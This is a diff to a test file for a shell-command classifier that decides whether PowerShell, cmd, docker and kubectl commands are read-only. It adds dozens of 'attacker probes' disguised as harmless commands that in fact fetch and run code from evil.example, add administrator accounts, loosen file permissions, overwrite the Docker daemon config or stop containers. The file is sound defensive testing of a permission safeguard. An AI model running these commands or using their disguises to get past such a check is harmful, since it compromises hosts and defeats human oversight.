@@ -63,10 +63,10 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     ['powershell', 'Get-Service docker | Stop-Service', 'Stop-Service', 'command'],
     ['powershell', 'Get-Process -Name (Stop-Process -Name dockerd -PassThru).Name', 'Stop-Process', 'command'],
     ['powershell', 'Write-Host "$(Remove-Item C:\\x)"', 'Remove-Item', 'command'],
-    ['powershell', 'Write-Host @"\n$(Remove-Item C:\\x)\n"@', 'Remove-Item', 'command'],
+    ['powershell', 'Write-Host @"\n$(Remove-Item C:\\x)\n"@', '@"', 'syntax'],
     ['powershell', "Get-ChildItem | Select-Object @{ n = 'x'; e = { Remove-Item C:\\x } }", 'Remove-Item', 'command'],
     ['powershell', 'Get-Process | sc C:\\ProgramData\\docker\\config\\daemon.json', 'sc', 'command'],
-    ['powershell', 'Get-Item x; function Get-Y { Get-Item x }', 'function', 'command'],
+    ['powershell', 'Get-Item x; function Get-Y { Get-Item x }', 'function', 'syntax'],
     ['powershell', 'Get-Service docker | % Stop', '% Stop', 'method'],
     ['powershell', 'Get-Service docker | ForEach-Object -MemberName Kill', 'ForEach-Object -MemberName', 'method'],
     ['powershell', 'Format-Volume -DriveLetter D', 'Format-Volume', 'command'],
@@ -97,7 +97,8 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     ['cmd', 'curl -sSo C:\\x https://example.org/', 'curl -sSo C:\\x https://example.org/', 'arguments'],
     ['powershell', 'netsh -f C:\\x.txt interface show interface', 'netsh -f C:\\x.txt interface show interface', 'arguments'],
     ['powershell', 'git branch evil', 'git branch evil', 'arguments'],
-    ['powershell', 'net user Administrator P@ss1', 'net user Administrator P@ss1', 'arguments'],
+    ['powershell', 'net user Administrator P@ss1', '@s', 'syntax'],
+    ['cmd', 'net user Administrator Pass1', 'net user Administrator Pass1', 'arguments'],
     ['cmd', 'dir & del C:\\x', 'del', 'command'],
     ['cmd', 'set PATH=C:\\Users\\Public& whoami', 'set PATH=C:\\Users\\Public', 'arguments'],
     ['cmd', 'ipconfig /all > C:\\x.txt', '> C:\\x.txt', 'redirection'],
@@ -172,6 +173,56 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     ["cmd", "crictl --profile-cpu=C:\\ProgramData\\docker\\config\\daemon.json ps"],
 
   ])('%s: %s (an attacker\'s probe)', (shell, command) => {
+    expect(readOnlyDoubt(command, shell)).toBeDefined();
+    expect(notReadOnly(command, shell)).toBeDefined();
+  });
+
+  // A third attacker helper's probes (2026-12-06), against the second version of the rule: each passed kb check as
+  // read-only and each changes something (attack35ro2: a loop variable set to $env:PATH, a here-string hiding a line,
+  // any Get… method, variables and expressions given to programs, quotes re-read by the next shell, splats after a
+  // string, options that run code or write, casts of hashtables, wildcards in program names …).
+  it.each([
+    ["powershell", "foreach ($env:PATH in '\\\\evil.example\\s') { whoami }"],
+    ["powershell", "foreach (${PSDefaultParameterValues} in @{ 'Invoke-WebRequest:OutFile' = 'C:\\ProgramData\\docker\\config\\daemon.json' }) { Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing }"],
+    ["powershell", "foreach ($env:PSModulePath in '\\\\evil.example\\s\\modules') { Get-NetNat }"],
+    ["powershell", "foreach ($env:DOCKER_CONFIG in '\\\\evil.example\\s') { docker compose version }"],
+    ["powershell", "$x = $( @'\n' )\n'@ ); \\\\evil.example\\s\\x.exe; @'\n'\n'@ | Out-Null"],
+    ["powershell", "[void][Reflection.Assembly]::LoadWithPartialName('Microsoft.VisualBasic'); [Microsoft.VisualBasic.Interaction]::GetObject('script:\\\\evil.example\\s\\x.sct')"],
+    ["powershell", "$a = '-o', 'C:\\ProgramData\\docker\\config\\daemon.json', 'https://evil.example/daemon.json'; curl.exe -s $a"],
+    ["powershell", "$a = 'wcd', 'P4ss-w0rd-1', '/add'; net user $a"],
+    ["powershell", "$b = 'Administrators', 'wcd', '/add'; net localgroup $b"],
+    ["powershell", "$a = 'C:\\ProgramData\\docker', '/grant', 'Everyone:F', '/t'; icacls $a"],
+    ["powershell", "wmic process where \"name='dockerd.exe' or name='get'\" ('de'+'lete')"],
+    ["powershell", "$a = '-o', 'C:\\ProgramData\\docker\\config\\daemon.json'; docker compose config $a"],
+    ["powershell", "powershell -NoProfile -Command 'Write-Output \"a; \\\\evil.example\\s\\x.exe; b\"'"],
+    ["powershell", "cmd /c echo '\"' 'a & \\\\evil.example\\s\\x.exe & echo' '\"'"],
+    ["docker", "docker exec web cmd /c echo '\"' 'a & net1 user wcd P4ss-w0rd-1 /add & echo'"],
+    ["kubectl", "kubectl exec web \"--\" cmd /c echo '\"' 'a & \\\\evil.example\\s\\x.exe & echo'"],
+    ["powershell", "$p = @{ OutFile = 'C:\\ProgramData\\docker\\config\\daemon.json' }; Invoke-WebRequest 'https://evil.example/daemon.json'@p"],
+    ["powershell", "$u = 'http://127.0.0.1:2375/containers/web/stop'; $p = @{ Method = 'Post' }; Invoke-RestMethod ($u)@p"],
+    ["powershell", "pwsh -NoProfile -Command 'Invoke-RestMethod -CM POST http://127.0.0.1:2375/containers/web/stop'"],
+    ["cmd", "wmic os get Caption /format:\"\\\\evil.example\\s\\x.xsl\""],
+    ["powershell", "curl.exe -s -w '%output{C:\\ProgramData\\docker\\config\\daemon.json}{\\\"hosts\\\":[\\\"tcp://0.0.0.0:2375\\\",\\\"npipe://\\\"]}' https://example.com/"],
+    ["cmd", "netsh wfp show filters file=C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["cmd", "wevtutil qe System /c:1 /sbm:C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "Get-Command \\\\evil.example\\s\\x.ps1 -Syntax"],
+    ["powershell", "Get-ProcessMitigation -RegistryConfigFilePath C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "[System.Diagnostics.EventLog][ordered]@{ Log = 'Security'; MachineName = '.'; MaximumKilobytes = 64 }"],
+    ["powershell", "Get-Date > $null-\\..\\..\\..\\..\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "Get-Date 2> $null+\\..\\Dockerfile"],
+    ["powershell", "Get-CimInstance CIM_Product | Select-Object Name"],
+    ["cmd", "wmic path CIM_Product get Name"],
+    ["powershell", "Get-CimInstance -ClassName ('Win32_' + 'Product') | Select-Object Name"],
+    ["powershell", "C:\\Windows\\System32\\spool\\drivers\\color\\ipconfig.exe /all"],
+    ["powershell", "C:\\Windows\\System32\\shutdow?.exe -h"],
+    ["cmd", "C:\\Windows\\System32\\powercfg.exe -h"],
+    ["powershell", "cmd /c 'cd /d C:\\Users\\Public & hostname'"],
+    ["powershell", "cmd /c 'echo:x\\..\\..\\..\\..\\..\\..\\..\\Windows\\System32\\net1.exe user wcd P4ss-w0rd-1 /add'"],
+    ["docker", "docker exec web cmd /c echo:x\\..\\..\\..\\..\\Windows\\System32\\net1.exe user wcd P4ss-w0rd-1 /add"],
+    ["powershell", "$ExecutionContext.InvokeProvider.Content.GetWriter('C:\\ProgramData\\docker\\config\\new.json')"],
+    ["docker", "docker exec -d web ping -t 127.0.0.1"],
+
+  ])('%s: %s (a third attacker\'s probe)', (shell, command) => {
     expect(readOnlyDoubt(command, shell)).toBeDefined();
     expect(notReadOnly(command, shell)).toBeDefined();
   });
